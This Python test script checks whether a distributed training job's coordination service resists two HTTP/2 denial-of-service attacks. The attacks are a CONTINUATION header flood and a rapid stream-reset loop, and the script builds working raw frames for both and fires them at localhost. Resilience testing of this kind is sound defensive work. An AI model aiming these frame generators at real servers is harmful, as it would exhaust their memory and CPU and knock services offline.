#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Measures what strangers cost a job: two workers with a secret train on one core while a process
without the secret attacks the coordination service in worker 0 from another core. It reconnects as
soon as it is disconnected. The attacks target HTTP/2 parsers: `hpack` sends endless headers, which
fill memory (CVE-2023-33953), and `reset` begins requests and resets them, which takes CPU time
(CVE-2023-44487).

Fails if worker 0 takes more memory or CPU time per step than the bounds allow. Needs two cores,
bin/fashion_mnist (tools/build) and its dataset.
"""

import argparse
import os
import pathlib
import socket
import struct
import subprocess
import sys
import tempfile
import time

PROGRAM = pathlib.Path(__file__).resolve().parents[2] / "bin/fashion_mnist"
WORKERS = 2
MAX_CPU_RATIO, MAX_MIB = 1.1, 16
TICKS_PER_SECOND = os.sysconf("SC_CLK_TCK")

# HTTP/2 (RFC 9113) and its headers (RFC 7541).
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name, value):
    """Returns an uncompressed header; this length encoding supports at most 126 bytes."""
    return b"\0" + b"".join(bytes([len(text)]) + text for text in (name, value))


REQUEST = b"".join(header(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"x"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def hpack():
    yield frame(HEADERS, 0, 1, REQUEST)
    while True:
        yield 16 * frame(CONTINUATION, 0, 1, 126 * header(b"k", 126 * b"v"))


def reset():
    for first in range(1, 1 << 31, 400):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RESET, 0, stream, CANCEL)
            for stream in range(first, first + 400, 2))


def attack(frames, port, seconds):
    """Returns the number of connections and of bytes sent."""
    end = time.monotonic() + seconds
    calls = size = 0
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=10) as caller:
                calls += 1
                caller.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                for text in frames():
                    caller.sendall(text)
                    size += len(text)
                    if time.monotonic() >= end:
                        break
        except OSError:
            pass  # disconnected
    return calls, size


class Job:
    """Two workers on the cores of the thread that starts them, with their files in `folder`."""

    def __init__(self, folder):
        self.log = folder / "losses"
        self.output = folder / "output"
        secret = folder / "secret"
        secret.touch(0o600)
        secret.write_bytes(os.urandom(32))
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.port = free.getsockname()[1]
        command = [PROGRAM, "--replicas=1", "--global_batch_size=64", "--steps=100000000",
                   "--epochs=100000", f"--secret_file={secret}"]
        self.processes = []
        with open(self.output, "wb") as output:
            for worker in range(WORKERS):
                environment = {**os.environ, "MIRRORFLOW_NUM_WORKERS": str(WORKERS),
                               "MIRRORFLOW_WORKER_INDEX": str(worker),
                               "MIRRORFLOW_COORDINATOR": f"127.0.0.1:{self.port}"}
                log = [f"--loss_log={self.log}"] if worker == 0 else []
                self.processes.append(subprocess.Popen(command + log, env=environment,
                                                       stdout=output, stderr=output))
        self.proc = pathlib.Path("/proc", str(self.processes[0].pid))

    def kill(self):
        for process in self.processes:
            process.kill()
            process.wait()

    def steps(self):
        if any(process.poll() is not None for process in self.processes):
            sys.exit(f"a worker ended unexpectedly: {self.output.read_text()}")
        return self.log.read_bytes().count(b"\n") if self.log.exists() else 0

    def cpu_seconds(self):
        fields = (self.proc / "stat").read_text().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / TICKS_PER_SECOND

    def mebibytes(self, field):
        lines = (self.proc / "status").read_text().splitlines()
        return next(int(line.split()[1]) for line in lines if line.startswith(field + ":")) / 1024

    def measure(self, name, work):
        """Returns worker 0's CPU time per step during work(), and by how much its memory grew."""
        (self.proc / "clear_refs").write_text("5")  # resets VmHWM, the peak of VmRSS
        steps, cpu, resident = self.steps(), self.cpu_seconds(), self.mebibytes("VmRSS")
        what = work()
        steps, cpu = self.steps() - steps, self.cpu_seconds() - cpu
        growth = self.mebibytes("VmHWM") - resident
        print(f"{name:6} {steps:6} steps, {cpu / steps * 1e6:.0f} us of CPU time each; "
              f"memory {resident:.1f} MiB, at most {growth:+.1f} MiB{what or ''}", flush=True)
        return cpu / steps, growth


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=60, help="seconds per attack")
    parser.add_argument("--warm_up", type=int, default=40000, help="steps until memory is stable")
    args = parser.parse_args()
    core_of_job, core_of_stranger = sorted(os.sched_getaffinity(0))[:2]
    is_met = True
    with tempfile.TemporaryDirectory() as folder:
        os.sched_setaffinity(0, {core_of_job})
        job = Job(pathlib.Path(folder))
        os.sched_setaffinity(0, {core_of_stranger})
        try:
            while job.steps() < args.warm_up:
                time.sleep(0.2)
            before, _ = job.measure("alone", lambda: time.sleep(args.seconds / 2))
            for frames in (hpack, reset):

                def work(frames=frames):
                    calls, size = attack(frames, job.port, args.seconds)
                    return f"; {calls} calls, {size >> 20} MiB sent"

                attacked, growth = job.measure(frames.__name__, work)
                after, _ = job.measure("alone", lambda: time.sleep(args.seconds / 2))
                ratio = 2 * attacked / (before + after)
                is_met = is_met and ratio <= MAX_CPU_RATIO and growth <= MAX_MIB
                print(f"{frames.__name__}: CPU time per step {ratio:.3f} times that without attack "
                      f"(bound {MAX_CPU_RATIO}), memory {growth:+.1f} MiB (bound +{MAX_MIB})",
                      flush=True)
                before = after
        finally:
            job.kill()
    sys.exit(not is_met)


if __name__ == "__main__":
    main()
